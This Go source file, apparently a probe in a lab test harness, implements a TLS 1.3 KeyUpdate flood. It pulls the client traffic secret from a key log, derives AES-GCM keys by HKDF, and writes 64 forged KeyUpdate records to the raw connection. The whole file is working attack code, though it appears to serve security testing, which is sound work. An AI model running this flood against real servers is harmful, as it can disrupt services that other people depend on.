package bypass

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
)

// keyUpdates are sent on one connection.
const keyUpdates = 64

// keyUpdateFlood sends what crypto/tls has no call for: it writes records of
// its own, with the keys that a key log gives away.
func keyUpdateFlood(ctx context.Context, l *Lab, _ int) (burst, error) {
	raw, err := l.attack(ctx)
	if err != nil {
		return burst{}, err
	}
	var log bytes.Buffer
	cfg := l.clientConfig(Try{})
	cfg.KeyLogWriter = &log
	conn := tls.Client(raw, cfg)
	if err := conn.HandshakeContext(ctx); err != nil {
		return spent(raw, "refused at tls"), raw.Close()
	}
	keys, err := trafficKeys(log.Bytes(), conn.ConnectionState().CipherSuite)
	if err != nil {
		return burst{open: raw}, err
	}
	for range keyUpdates {
		record, err := keys.update()
		if err != nil {
			return burst{open: raw}, err
		}
		if _, err := raw.Write(record); err != nil {
			break // it has ended already
		}
	}
	b := spent(raw, "")
	b.open = raw
	return b, nil
}

// clientKeys protect what a TLS 1.3 client sends after its handshake.
type clientKeys struct {
	secret []byte
	length int // of a key, in bytes
	hash   func() hash.Hash
}

// trafficKeys reads the client's first application secret from a key log.
func trafficKeys(log []byte, suite uint16) (*clientKeys, error) {
	k := &clientKeys{}
	switch suite {
	case tls.TLS_AES_128_GCM_SHA256:
		k.length, k.hash = 16, sha256.New
	case tls.TLS_AES_256_GCM_SHA384:
		k.length, k.hash = 32, sha512.New384
	default:
		return nil, fmt.Errorf("key updates are written for AES-GCM, not %s", tls.CipherSuiteName(suite))
	}
	for line := range bytes.Lines(log) {
		fields := bytes.Fields(line)
		if len(fields) != 3 || string(fields[0]) != "CLIENT_TRAFFIC_SECRET_0" {
			continue
		}
		var err error
		k.secret, err = hex.DecodeString(string(fields[2]))
		return k, err
	}
	return nil, errors.New("the key log has no client secret")
}

// update is a record with one KeyUpdate, after which the next secret holds.
func (k *clientKeys) update() ([]byte, error) {
	key, err := k.expand("key", k.length)
	if err != nil {
		return nil, err
	}
	nonce, err := k.expand("iv", 12) // the first record under a key has the number 0
	if err != nil {
		return nil, err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	sealer, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	// KeyUpdate, 1 byte, update_not_requested; then the inner content type.
	message := []byte{24, 0, 0, 1, 0, 22}
	header := []byte{23, 3, 3, 0, byte(len(message) + sealer.Overhead())}
	if k.secret, err = k.expand("traffic upd", k.hash().Size()); err != nil {
		return nil, err
	}
	return sealer.Seal(header, nonce, message, header), nil
}

// expand is HKDF-Expand-Label of RFC 8446, section 7.1, with an empty context.
func (k *clientKeys) expand(label string, length int) ([]byte, error) {
	label = "tls13 " + label
	info := binary.BigEndian.AppendUint16(nil, uint16(length))
	info = append(append(info, byte(len(label))), label...)
	return hkdf.Expand(k.hash, k.secret, string(append(info, 0)), length)
}
